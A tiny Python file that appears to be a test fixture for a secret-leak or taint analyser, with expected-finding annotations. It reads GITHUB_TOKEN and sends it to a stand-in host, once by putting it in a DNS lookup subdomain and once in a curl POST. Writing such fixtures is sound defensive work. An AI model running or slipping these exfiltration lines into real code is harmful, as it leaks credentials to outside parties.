import os
import subprocess

tok = os.environ.get("GITHUB_TOKEN")  # want: source
subprocess.run(["nslookup", f"{tok}.ping.example.net"])  # want: finding
subprocess.run(["curl", "-s", "-d", tok, "https://ping.example.net/h"])  # want: finding
